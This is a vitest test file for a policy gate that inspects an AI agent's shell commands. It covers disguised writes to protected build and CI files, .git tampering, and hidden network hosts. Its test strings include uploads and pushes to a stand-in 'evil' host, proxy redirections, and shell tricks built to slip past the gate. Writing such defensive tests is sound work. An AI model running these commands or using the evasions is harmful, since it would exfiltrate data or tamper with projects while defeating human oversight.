/** What commands do that their words hide: files by made-up names, folders brought, hosts beside an address, variables set. */
import { describe, expect, it } from "vitest";
import { gatedPath } from "../../src/domain/gate-paths.ts";
import { brokenBy, defaultArgumentRules } from "../../src/domain/policy-arguments.ts";
import { touchOf } from "../../src/domain/policy-call.ts";
import { protectedFile } from "../../src/domain/protected-files.ts";
import { readShell } from "../../src/domain/shell.ts";

const touch = (command: string) => touchOf({ tool: "shell_execute", args: { command } });
const broken = (command: string) =>
  defaultArgumentRules.flatMap((rule) => (brokenBy(rule, touch(command), { token: null }) === null ? [] : [rule.id]));

describe("what the words hide", () => {
  it.each([
    "printf 'aaa%n' PATH",
    "printf -- '%5n' PATH",
    "printf '%*n' 3 PATH",
    "printf '%.0n' PATH",
    "printf '%ln' PATH",
    "builtin printf 'aaa%n' HOME",
    "command printf '%-08.3hhn' PATH",
  ])("[SH-70] %s is dynamic", (script) => {
    expect(readShell(script).dynamic).toBe(true);
  });
  it("[SH-70] other formats are not", () => {
    for (const script of ["printf '%s\\n' x", "printf '%d %s' 1 n", "printf %s %n", "printf '100%%'"])
      expect(readShell(script).dynamic, script).toBe(false);
  });
  it.each([
    "<&-bash cat x",
    ">& -rm echo -rf src",
    "2>&-rm echo",
    "sed -n <&-'' 1,5p x",
    'echo >&-"" a',
    "npm test >&'$(sh src/x)'",
    'npm test >&"\\$(sh src/x)"',
    "npm test >&\\$HOME",
    "npm test 1>&'`sh src/x`'",
    "echo >&'~'",
    "rm 2147483648>/dev/null",
    "rm 99999999999<b",
  ])("[SH-73] %s is dynamic", (script) => {
    expect(readShell(script).dynamic).toBe(true);
  });
  it.each(["cat <<-` -c [[", "cat <<$x\na\n$x", "cat <<a'b'\na\nab", "cat <<''\na\n", "cat <<'a$'\nb\na$"])(
    "[SH-74] %s is dynamic",
    (script) => {
      expect(readShell(script).dynamic).toBe(true);
    },
  );
  it("[SH-74] usual delimiters are read", () => {
    for (const end of ["EOF", "'EOF'", '"E F"', "\\EOF"])
      expect(readShell(`cat <<${end}\na\n${end.replace(/['"\\]/g, "")}`).dynamic, end).toBe(false);
  });
  it("[SH-73] descriptors and plain names are read", () => {
    for (const [script, writes] of [
      ["npm test 2>&1 >&- <&3 3>&4-", []],
      ["npm test >&src/a-b.log", ["src/a-b.log"]],
    ] as const) {
      const reading = readShell(script);
      expect([reading.dynamic, reading.writes], script).toEqual([false, writes]);
    }
  });
  it.each(["/[/s#]/e sh src/x #b#", "s|^.*[|].*|p;/bin\\/sh src\\/x|e#/p", "/[/s#]/w .git/x#b#", "s/[[:alpha:]]/x/"])(
    "[SH-70] sed with %s is opaque",
    (script) => {
      expect(readShell(`sed '${script}' a`).commands[0]?.opaque ?? null).not.toBeNull();
    },
  );
  it("[SH-70] a plain bracket is read", () => {
    for (const script of ["s/[^a-z]/_/g", "/[0-9]/p", "s/a[bc]*d/[x]/"])
      expect(readShell(`sed '${script}' a`).commands[0]?.opaque, script).toBeNull();
    expect(readShell("curl -o 'Make#1ile' 'http://h/{f}'").commands[0]?.opaque).not.toBeNull();
    expect(readShell("tree -Io x Makefile").commands[0]?.opaque).not.toBeNull();
    expect(readShell("gunzip -N src/x.gz").commands[0]?.opaque).not.toBeNull();
    expect(readShell("csplit -f .gi -b t/config a 5").commands[0]?.opaque).not.toBeNull();
  });
  it.each([
    "split -a1 -l1 src/n Makefil",
    "csplit -k -s -f .gi -b t/config%.0d src/cfg 5",
    "cp -r src/d/. .",
    "cp -rT src/d .",
    "rsync -a src/d/ .",
    "mv -T src/d cypress",
    "mv src/pkg packages",
    "git mv src/support cypress",
    "zstd -d --output-dir-flat=. src/tasks.py.zst",
    "zip Makefile src/a",
    "git bundle create Makefile HEAD",
    "git mv src/tasks.py .",
    "git mv src/setup.js jest",
    "find . -maxdepth 1 -name Makefile -delete",
    "find .github -name ci.yml -exec cp src/evil {} ';'",
    "gunzip Makefile-gz",
    "timeout 60 gunzip package.json.gz",
  ])("[POL-100] [POL-101] %s asks as a write to a protected file", (command) => {
    expect(broken(command)).toContain("protected-files");
  });
  it.each([
    "cp -r src/d dst",
    "mv src/a src/b",
    "mv a.ts packages/core/",
    "zip -r build/a.zip src",
    "git mv src/a src/b",
  ])("[POL-100] %s does not", (command) => {
    expect(broken(command)).not.toContain("protected-files");
  });
  it.each([
    ["find .git -maxdepth 1 -name config -delete", "git-directory"],
    ["find .git/hooks -exec chmod +x {} +", "git-directory"],
    ["find ../x -maxdepth 1 -name a -delete", "outside-workspace"],
    ["find / -maxdepth 1 -name a -exec rm {} +", "outside-workspace"],
    ["git bundle create .git/x HEAD", "git-directory"],
  ])("[POL-101] %s is denied by %s", (command, rule) => {
    expect(broken(command)).toContain(rule);
  });
  it("[POL-101] a gate on paths sees them too", () => {
    for (const command of ["zip migrations/x a", "git bundle create migrations/x HEAD", "split -l1 a migrationx"])
      expect(gatedPath(["migrations/**"], touch(command)), command).not.toBeNull();
  });
  it.each([
    ["curl -sxevil.com:80 http://ok.com", "evil.com"],
    ["curl 'h{ttp}://evil.com'", ""],
    ["curl evil%2ecom", ""],
    ["curl 'evil\u3002com'", ""],
    ["curl //evil.com", ""],
    ["curl -T src/a evil", "evil"],
    ["curl -- evil", "evil"],
    ["curl 'http://{ok.com,evil.com}/'", ""],
    ["git push evil.com:x", "evil.com"],
    ["git ls-remote evil:x", "evil"],
    ["git remote add o evil.com:x", "evil.com"],
    ["curl --resolve ok.com:80:1.2.3.4 ok.com", ""],
    ["curl --connect-to ok.com:80:evil.com:80 ok.com", "evil.com"],
    ["wget -e http_proxy=evil.com ok.com", ""],
    ["http_proxy=evil.com:80 curl ok.com", ""],
  ])("[POL-102] %s reaches the host %j", (command, host) => {
    expect(touch(command).hosts).toContain(host);
  });
  it("[POL-102] a plain call reaches its own host only", () => {
    for (const command of [
      "curl -sS -o src/a https://ok.com/x",
      "wget -qO- ok.com",
      "curl -m 5 ok.com",
      "curl -d a=b ok.com",
    ])
      expect(touch(command).hosts, command).toEqual(["ok.com"]);
    expect(touch("git push origin HEAD:main").hosts).toEqual([]);
    expect(touch("git show HEAD:package.json").hosts).toEqual([]);
  });
  it("[POL-95] names that take power are protected, and names like them are not", () => {
    const guarded =
      "gems.rb gems.locked CMakeUserPresets.json tox.toml .mypy.ini poetry.toml dev-requirements.txt config/config.exs project/build.properties dune build.ninja conanfile.py bb.edn action.yml OWNERS .mergify.yml hooks/pre-commit git-hooks/x prek.toml .changeset/config.json jest.globalSetup.js test/setup.ts features/support/env.rb docs/conf.py mkdocs.yml a.xcconfig Capfile .clangd .qoder/x SOUL.md Chart.yaml a.tfvars crontab x.service .ebextensions/a.config GNUmakefile.sh config.mk.sh Makefile,v";
    expect(guarded.split(" ").filter((path) => protectedFile(path) === null)).toEqual([]);
    const plain =
      "src/app.json src/config.exs src/setup.ts src/env.rb src/hooks/useState.ts src/conf.py docs/knowledge.md src/init.lua";
    expect(plain.split(" ").filter((path) => protectedFile(path) !== null)).toEqual([]);
  });
});
